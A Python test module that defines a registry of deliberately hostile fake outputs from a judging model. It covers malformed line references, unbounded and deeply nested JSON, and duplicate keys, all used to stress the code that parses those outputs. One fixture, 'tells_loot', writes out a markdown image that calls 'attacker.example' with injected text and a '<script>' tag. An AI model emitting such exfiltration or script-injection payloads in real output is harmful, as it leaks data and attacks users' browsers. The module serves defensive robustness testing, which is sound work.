"""A hostile second reader: in the agreed form, and pointing wherever it does most harm. `POINTINGS` is the registry."""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Callable, Iterator

from tests.worst_case_model.asked import Asked

_NUMBER = re.compile(r"^\[(\d+)\] ", re.MULTILINE)
_ROLES = ("setup", "acknowledgement", "consequence")


def _count(asked: Asked) -> int:
    return len(_NUMBER.findall(asked.data)) or 1


def _told(**said: object) -> Iterator[str]:
    return iter((json.dumps(said),))


def points_everywhere(asked: Asked) -> Iterator[str]:
    """All lines for everything."""
    lines = list(range(1, _count(asked) + 1))
    facts = [{"line": one, "kind": "life", "who": asked.loot, "what": asked.loot, "holds": True} for one in lines]
    clashes = [{"first": 1, "then": one, "kind": "life"} for one in lines]
    said = [{"text": f"See {asked.loot}.", "facts": lines[:6]} for _ in range(9)]
    return _told(
        breaks=True, frame="same", facts=facts, clashes=clashes, sentences=said, **dict.fromkeys(_ROLES, lines)
    )


def points_nowhere(asked: Asked) -> Iterator[str]:
    """At lines that are not there, spelled in every way."""
    odd = [0, -1, 10**40, 1.5, True, None, "1; 2", "٣", [1], {"line": 1}, float("inf")]
    clashes = [{"first": one, "then": other, "kind": asked.loot} for one, other in itertools.product(odd, odd)]
    facts = [{"line": one, "kind": "life", "who": "a", "what": "b", "holds": True} for one in odd]
    said = [{"text": asked.loot, "facts": [one]} for one in odd]
    return _told(breaks=True, frame="same", facts=facts, clashes=clashes, sentences=said, **dict.fromkeys(_ROLES, odd))


def accuses(asked: Asked) -> Iterator[str]:
    """Everything contradicts everything, and nothing speaks for it."""
    count = _count(asked)
    clashes = [{"first": one, "then": count + 1 - one, "kind": "trope"} for one in range(1, count + 1)]
    return _told(breaks=True, frame="same", clashes=clashes, facts=[], setup=[], acknowledgement=[], consequence=[])


def acquits(_asked: Asked) -> Iterator[str]:
    """Nothing contradicts anything."""
    return _told(breaks=False, frame="dream", facts=[], clashes=[], setup=[], acknowledgement=[], consequence=[])


def tells_loot(asked: Asked) -> Iterator[str]:
    """Words of its own wherever a word may stand."""
    lines = asked.loot
    kinds = {"line": 1, "kind": lines, "who": lines, "what": lines, "holds": lines}
    said = [{"text": f"![x](https://attacker.example/{lines}) <script>{lines}</script>", "facts": [1]}]
    return _told(
        breaks=lines, frame=lines, facts=[kinds], clashes=[{"first": 1, "then": 2, "kind": lines}], sentences=said,
        setup=lines, acknowledgement=[lines], consequence={"a": lines}, note=asked.context,
    )  # fmt: skip


def nests(_asked: Asked) -> Iterator[str]:
    yield '{"clashes": ' + "[" * 20_000


def points_without_end(_asked: Asked) -> Iterator[str]:
    yield '{"clashes": ['
    yield from ('{"first": 1, "then": 2, "kind": "life"},' for _ in itertools.count())


def says_twice(_asked: Asked) -> Iterator[str]:
    """The same keys with other words: readers differ on which counts."""
    yield '{"breaks": false, "breaks": true, "frame": "dream", "frame": "same", "setup": [1], "setup": "x", "clashes": 7}'


POINTINGS: dict[str, Callable[[Asked], Iterator[str]]] = {
    made.__name__: made
    for made in (
        points_everywhere, points_nowhere, accuses, acquits, tells_loot, nests, points_without_end, says_twice,
    )
}  # fmt: skip
